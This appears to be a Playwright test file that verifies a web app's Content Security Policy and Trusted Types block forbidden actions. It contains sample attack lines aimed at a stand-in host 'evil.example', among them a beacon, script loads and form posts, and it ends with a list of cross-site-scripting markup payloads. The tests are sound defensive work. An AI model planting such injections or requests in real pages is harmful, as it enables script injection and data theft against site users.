// What the browser itself forbids the page, whatever code should ever run in it; and that the tests would notice.
import { expect, exploreSample, open, test } from './app.mjs';

test('the tests see every request, those of the engine included', { tag: '@main' }, async ({ page, baseURL }) => {
  const seen = [];
  page.on('request', (request) => seen.push(request.url()));
  await exploreSample(page);
  // Asked for by the engine alone.
  for (const name of [/settings\.json$/, /engine-[0-9a-f]{16}\.js$/, /engine-[0-9a-f]{16}_bg\.wasm$/]) {
    expect(seen.filter((address) => name.test(address)), String(name)).not.toEqual([]);
  }
  for (const address of seen) expect(address.startsWith(baseURL) || /^(blob|data):/.test(address), address).toBe(true);
});

const FORBIDDEN = [
  ['asking another host', 'connect-src', () => fetch('https://evil.example/').catch(() => {})],
  ['asking Workbench from the page, which has no business there', 'connect-src', () => fetch('https://workbench.expel.io/').catch(() => {})],
  ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
  ['a web socket', 'connect-src', () => { try { new WebSocket('wss://evil.example/'); } catch { /* Told by the report. */ } }],
  ['a picture of another host', 'img-src', () => (new Image().src = 'https://evil.example/x.png')],
  ['an inline script', 'script-src-elem', () => { const script = document.createElement('script'); script.textContent = 'window.hacked = 1'; document.body.append(script); }],
  ['a script of another host', 'script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))],
  ['an event handler', 'script-src-attr', () => { const text = document.body.appendChild(document.createElement('p')); text.setAttribute('class', 'x'); text.setAttribute('onclick', 'window.hacked = 1'); text.click(); }],
  // Later: what a debugger evaluates may use eval.
  ['eval', 'script-src', () => { const act = eval; setTimeout(() => act('window.hacked = 1')); }],
  ['a frame', 'frame-src', () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))],
  ['a form that is sent', 'form-action', () => { const form = document.body.appendChild(document.createElement('form')); form.action = 'https://evil.example/'; try { form.submit(); } catch { /* Told by the report. */ } }],
  ['another base for addresses', 'base-uri', () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))],
  ['an engine of another host', 'worker-src', () => { try { new Worker('data:text/javascript,0'); } catch { /* Told by the report. */ } }],
  ['a plugin', 'object-src', () => document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.example/' }))],
  ['a font of another host', 'font-src', () => new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => {})],
];

for (const [what, directive, act] of FORBIDDEN) {
  test(`the page's policy forbids ${what}`, async ({ page }) => {
    page.expectError(/evil\.example|policy|Content Security Policy|Content-Security-Policy|blocked by CSP|workbench\.expel\.io|Refused|violates/);
    const told = [];
    page.on('console', (message) => told.push(message.text()));
    await open(page);
    // Trusted Types refuse some of it before the other directives are asked.
    await page.evaluate(act).catch((error) => expect(error.message).toMatch(/requires|blocked by CSP/));
    // The same line that fails a test which does not expect it.
    const lines = () => told.filter((line) => line.startsWith('policy: '));
    await expect.poll(lines).not.toEqual([]);
    for (const line of lines()) expect(line).toMatch(new RegExp(`^policy: (${directive}|require-trusted-types-for)`));
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });
}

const MARKUP = [
  '<img src=x onerror="window.hacked = 1">', '<p onclick="window.hacked = 1">x</p>', '<script>window.hacked = 1</script>', '<a href="javascript:window.hacked = 1">x</a>',
  '<svg onload="window.hacked = 1"></svg>', '<svg><a href="x"></a></svg>', '<iframe srcdoc="x"></iframe>', '<p style="position: fixed">x</p>', '<form action="x"></form>',
  '<p class="a" onclick=x>', '<p class="a"onclick="x">', '<p\nonclick="x">', '<P ONCLICK="x">', '<math><mi xlink:href="x">', '<base href="x">', '<p class="a', '<!--x--><img>',
];

test('text that is taken for markup acts on nothing: it is refused', async ({ page }) => {
  page.expectError(/policy|TrustedHTML|Trusted/i);
  await open(page);
  const refused = await page.evaluate(async (all) => {
    const place = document.body.appendChild(document.createElement('div'));
    // A debugger's code is trusted; what it leaves for later is not.
    await new Promise((resolve) => setTimeout(resolve));
    return all.filter((markup) => {
      try {
        place.innerHTML = markup;
        return false;
      } catch (error) {
        return error instanceof TypeError && place.innerHTML === '';
      }
    });
  }, MARKUP);
  expect(refused).toEqual(MARKUP);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});
